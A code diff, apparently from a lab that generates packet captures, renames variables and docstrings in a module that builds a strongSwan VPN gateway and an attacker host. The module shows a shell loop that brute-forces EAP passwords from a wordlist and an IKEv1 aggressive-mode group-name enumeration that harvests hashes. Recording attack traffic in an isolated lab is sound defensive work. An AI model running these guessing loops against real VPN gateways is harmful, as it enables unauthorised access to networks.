@@ -1,5 +1,5 @@
-"""Passwords are tried at a VPN gateway (strongSwan, IKEv2 with EAP-MSCHAPv2) until one fits; ike-scan tries group names
-in aggressive mode of IKEv1. Needs strongswan-starter, libcharon-extauth-plugins, ike-scan.
+"""Password guessing at a VPN gateway (strongSwan, IKEv2 with EAP-MSCHAPv2) until one is correct; ike-scan tries group
+names in IKEv1 aggressive mode. Needs strongswan-starter, libcharon-extauth-plugins, ike-scan.
 
 Run it as ``python -m pcaps.lab.attacks.vpn [SCENE...]``.
 """
@@ -13,7 +13,7 @@ from pathlib import Path
 
 from pcaps.lab._lab import Host, Lab, record
 from pcaps.lab._programs import ACCOUNT, PASSWORD
-from pcaps.lab.attacks.guessing import WORDS
+from pcaps.lab.attacks.password_guessing import PASSWORDS
 
 NAME = "vpn.example.org"
 GROUPS = ("vpn", "staff", "sales", "remote", "employees", "contractors", "admin", "group1", "default", "cisco")
@@ -58,7 +58,9 @@ CLIENT = f"""conn office
 
 
 def _daemon(lab: Lab, host: Host, connections: str, secrets: str) -> tuple[Path, str]:
-    """Starts strongSwan with its own /etc and /run: the folder of its settings, and words that enter its place."""
+    """Writes the configuration of strongSwan. Returns its folder, and shell commands that mount it over /etc, with an
+    empty /run.
+    """
     folder = lab.folder / host.name
     (folder / "ipsec.d" / "private").mkdir(parents=True)
     for name in ("certs", "cacerts"):
@@ -72,34 +74,34 @@ def _daemon(lab: Lab, host: Host, connections: str, secrets: str) -> tuple[Path,
 
 def _gateway(lab: Lab) -> Host:
     host = lab.host("gateway", "10.20.10.7")
-    folder, enter = _daemon(lab, host, GATEWAY, f': RSA key.pem\n{ACCOUNT} : EAP "{PASSWORD}"\n: PSK "{PASSWORD}"\n')
+    folder, mount = _daemon(lab, host, GATEWAY, f': RSA key.pem\n{ACCOUNT} : EAP "{PASSWORD}"\n: PSK "{PASSWORD}"\n')
     key, cert = folder / "ipsec.d/private/key.pem", folder / "ipsec.d/certs/gateway.pem"
     subject = ("-subj", f"/CN={NAME}", "-addext", f"subjectAltName=DNS:{NAME}")
     make = ("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(cert))
     subprocess.run((*make, *subject), check=True, capture_output=True)
-    lab.start(host, "sh", "-c", f"{enter} && exec /usr/lib/ipsec/starter --nofork", port=500, proto="udp")
+    lab.start(host, "sh", "-c", f"{mount} && exec /usr/lib/ipsec/starter --nofork", port=500, proto="udp")
     return host
 
 
 def passwords(lab: Lab) -> Iterator[None]:
-    """One login after the other; the last password is the right one."""
+    """Logins in sequence; the last password is correct."""
     gateway, attacker = _gateway(lab), lab.host("attacker", "10.20.10.66")
-    folder, enter = _daemon(lab, attacker, CLIENT.format(gateway=gateway.ip), "")
+    folder, mount = _daemon(lab, attacker, CLIENT.format(gateway=gateway.ip), "")
     certificate = lab.folder / "gateway/ipsec.d/certs/gateway.pem"
     (folder / "ipsec.d/cacerts/gateway.pem").write_bytes(certificate.read_bytes())
     yield
-    words = shlex.join((*WORDS[:20], PASSWORD))
-    tries = (
-        f"sleep 3; for word in {words}; do echo '{ACCOUNT} : EAP \"'$word'\"' > /run/secrets; "
+    candidates = shlex.join((*PASSWORDS[:20], PASSWORD))
+    attempts = (
+        f"sleep 3; for word in {candidates}; do echo '{ACCOUNT} : EAP \"'$word'\"' > /run/secrets; "
         "/usr/lib/ipsec/stroke rereadsecrets; /usr/lib/ipsec/stroke up office; done"
     )
     (folder / "ipsec.secrets").write_text("include /run/secrets\n", encoding="ascii")
     start = "touch /run/secrets; /usr/lib/ipsec/starter --nofork & "
-    lab.run(attacker, "unshare", "-m", "sh", "-c", f"{enter} && {{ {start} {tries}; kill $!; wait; }}", timeout=200)
+    lab.run(attacker, "unshare", "-m", "sh", "-c", f"{mount} && {{ {start} {attempts}; kill $!; wait; }}", timeout=200)
 
 
 def groups(lab: Lab) -> Iterator[None]:
-    """A list of names; the response to each has a hash."""
+    """A list of group names; each response contains a hash."""
     gateway, attacker = _gateway(lab), lab.host("attacker", "10.20.10.66")
     yield
     for name in GROUPS:
